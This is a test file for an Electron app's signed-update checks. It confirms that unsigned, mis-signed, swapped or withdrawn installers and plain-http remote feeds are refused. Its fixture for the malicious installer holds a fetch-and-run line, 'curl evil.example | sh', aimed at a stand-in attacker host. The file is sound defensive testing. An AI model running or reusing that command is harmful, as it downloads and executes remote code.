// Signed releases against the real electron-updater (its Linux updater, in plain Node) and real HTTP on 127.0.0.1:
// whoever controls the feed (the release token, the server, the network path) can make latest.yml name any installer
// with its true sha512, which electron-updater alone accepts. Only what the publisher's Ed25519 key signed installs.
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { generateKeyPairSync } from 'node:crypto';
import { afterEach, describe, expect, it } from 'vitest';
import { dump, load } from 'js-yaml';
import { signFeedYml } from '../../../scripts/releases/signing';
import { counterActivity } from '../../../src-main/updates/activity';
import { attemptFile } from '../../../src-main/updates/attempt-file';
import { feedUrl, parseUpdaterConfig } from '../../../src-main/updates/config';
import { UpdateController } from '../../../src-main/updates/controller';
import { updaterPort, type FeedSettings } from '../../../src-main/updates/updater-port';
import { DEFAULT_UPDATE_POLICY } from '../../../src-shared/updates/policy';
import { SHOP_MESSAGES_EN } from '../../../src-shared/shop-messages';
import {
  countingInstalls,
  counterLedger,
  feedWithCounter,
  manualTimers,
  realUpdater,
} from '../../support/electron-updater';
import { fakeBuild, operator, releaseOnServer, sha512, TEST_RELEASE_KEY } from '../../support/releases';

const cleanups: (() => unknown)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});
const trustedKeys = [TEST_RELEASE_KEY.publicKey];

/** A plain HTTP server on 127.0.0.1 answering fixed files: the feed as a network attacker or a broken server serves it. */
async function servedFeed(files: Record<string, Buffer | string>): Promise<{ url: string; requests: string[] }> {
  const requests: string[] = [];
  const server = http.createServer((request, response) => {
    const file = path.basename(new URL(request.url ?? '/', 'http://127.0.0.1').pathname);
    requests.push(file);
    const body = files[file];
    if (body === undefined) return void response.writeHead(404).end();
    response.writeHead(200, { 'content-length': Buffer.byteLength(body) }).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  cleanups.push(() => new Promise((resolve) => server.close(resolve)));
  return { url: `http://127.0.0.1:${(server.address() as { port: number }).port}/updates/stable`, requests };
}

/** A malicious "installer" and the feed that names it with its true sha512 and size. */
function maliciousFeed(version = '0.2.0') {
  const name = `galla_${version}_amd64.deb`;
  const bytes = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'.repeat(2000));
  const feed = { version, files: [{ url: name, sha512: sha512(bytes), size: bytes.length }], path: name };
  return { name, bytes, feed, yml: dump({ ...feed, sha512: sha512(bytes) }) };
}

/** The real update controller over a real ledger, at start with no shift open: the moment a ready update installs. */
async function counterAt(feed: Omit<FeedSettings, 'trustedKeys' | 'allowPrerelease'>, options = { openShift: false }) {
  const { updater, dir } = realUpdater(cleanups);
  const port = countingInstalls(updaterPort(updater, { ...feed, allowPrerelease: false, trustedKeys }));
  const shop = await counterLedger(cleanups, options);
  const timers = manualTimers();
  const controller = new UpdateController({
    port,
    policy: { ...DEFAULT_UPDATE_POLICY, ...(options.openShift ? { startWindowSeconds: 0 } : {}) },
    runningVersion: '0.1.0',
    activity: () => counterActivity({ ledger: shop.t.ledger, callsInFlight: () => 0, billOpen: () => false }),
    attempts: attemptFile(path.join(dir, 'attempt.json')),
    confirm: async () => true,
    shiftPollMs: 1000,
    timers,
  });
  controller.start();
  return { controller, port, shop, timers, pending: path.join(dir, 'cache', 'galla-updater', 'pending') };
}

describe('signed releases', () => {
  it('a latest.yml whose sha512 matches a malicious installer but carries no signature is refused: nothing downloaded or installed', async () => {
    const attack = maliciousFeed();
    const served = await servedFeed({ 'latest-linux.yml': attack.yml, [attack.name]: attack.bytes });
    const counter = await counterAt({ url: served.url, deviceToken: null });
    await counter.controller.checkNow();
    expect(counter.port.installs).toBe(0);
    expect(counter.controller.status()).toMatchObject({
      phase: 'failed',
      runningVersion: '0.1.0',
      error: expect.stringMatching(/Update 0\.2\.0 is not signed by Galla's publisher/),
    });
    expect(served.requests.includes(attack.name)).toBe(false);
  });

  it("a genuine release's signature pasted onto a feed naming a malicious installer does not verify, nor does another key's", async () => {
    const genuine = fakeBuild('0.2.0', 'linux');
    const signature = (load(signFeedYml(genuine.feedYml, TEST_RELEASE_KEY.privateKey)) as Record<string, unknown>)
      .gallaSignature;
    const attack = maliciousFeed();
    const pasted = dump({ ...attack.feed, gallaSignature: signature });
    const otherKey = signFeedYml(attack.yml, generateKeyPairSync('ed25519').privateKey);
    for (const yml of [pasted, otherKey]) {
      const served = await servedFeed({ 'latest-linux.yml': yml, [attack.name]: attack.bytes });
      const counter = await counterAt({ url: served.url, deviceToken: null });
      await counter.controller.checkNow();
      expect(counter.port.installs).toBe(0);
      expect(counter.controller.status().error).toMatch(/does not carry a valid signature of Galla's publisher/);
      expect(served.requests.includes(attack.name)).toBe(false);
    }
  });

  it('a release signed by the publisher is downloaded, its bytes checked against the signature, and installed', async () => {
    const feed = await feedWithCounter(cleanups);
    const build = await releaseOnServer(feed.url, '0.2.0', { platform: 'linux' });
    const counter = await counterAt({ url: feedUrl(feed.url, 'stable'), deviceToken: feed.deviceToken });
    await counter.controller.checkNow();
    expect(counter.port.installs).toBe(1);
    expect(counter.controller.status()).toMatchObject({ phase: 'installing', availableVersion: '0.2.0', error: null });
    expect(sha512(fs.readFileSync(path.join(counter.pending, build.name)))).toBe(sha512(build.bytes));
  });

  it('a downloaded installer swapped on disk before the install is refused and deleted', async () => {
    const feed = await feedWithCounter(cleanups);
    const build = await releaseOnServer(feed.url, '0.2.0', { platform: 'linux' });
    const counter = await counterAt(
      { url: feedUrl(feed.url, 'stable'), deviceToken: feed.deviceToken },
      { openShift: true },
    );
    await counter.controller.checkNow();
    expect(counter.controller.status()).toMatchObject({ phase: 'ready', waitingFor: 'shift-open' });
    const downloaded = path.join(counter.pending, build.name);
    fs.writeFileSync(downloaded, maliciousFeed().bytes);
    expect(await counter.controller.considerInstall('cashier')).toEqual({
      install: false,
      reason: 'nothing-downloaded',
    });
    expect(counter.port.installs).toBe(0);
    expect(counter.controller.status().error).toMatch(/is not the file its publisher signed; it was deleted/);
    expect(fs.existsSync(downloaded)).toBe(false);
  });

  it('a release withdrawn after it was downloaded is not installed at the day close', async () => {
    const feed = await feedWithCounter(cleanups);
    const build = await releaseOnServer(feed.url, '0.2.0', { platform: 'linux' });
    const counter = await counterAt(
      { url: feedUrl(feed.url, 'stable'), deviceToken: feed.deviceToken },
      { openShift: true },
    );
    await counter.controller.checkNow();
    expect(counter.controller.status()).toMatchObject({ phase: 'ready', waitingFor: 'shift-open' });
    expect((await operator(feed.url).change('0.2.0', 'linux', { withdrawn: true })).status).toBe(200);
    await counter.shop.manager.cashSessions.close({ countedPaise: 100_000, note: '' });
    counter.timers.fire(1000);
    await expect.poll(() => counter.controller.status().phase).toBe('failed');
    expect(counter.port.installs).toBe(0);
    expect(counter.controller.status().error).toMatch(/0\.2\.0 is no longer offered by the server/);
    expect(fs.existsSync(path.join(counter.pending, build.name))).toBe(false);
  });

  it('a plain-http feed elsewhere than this PC is refused; http://127.0.0.1, localhost and [::1] are allowed', async () => {
    const counter = await counterAt({ url: 'http://updates.example.in/updates/stable', deviceToken: null });
    await counter.controller.checkNow();
    expect(counter.controller.status().error).toContain(SHOP_MESSAGES_EN.serverUrlHttps);
    expect(() => parseUpdaterConfig({ GALLA_UPDATE_SERVER: 'http://updates.example.in' })).toThrow(
      SHOP_MESSAGES_EN.serverUrlHttps,
    );
    for (const server of [
      'http://127.0.0.1:4400',
      'http://localhost:4400',
      'http://[::1]:4400',
      'https://u.example.in',
    ])
      expect(parseUpdaterConfig({ GALLA_UPDATE_SERVER: server }).serverOverride).toBe(server);
  });
});
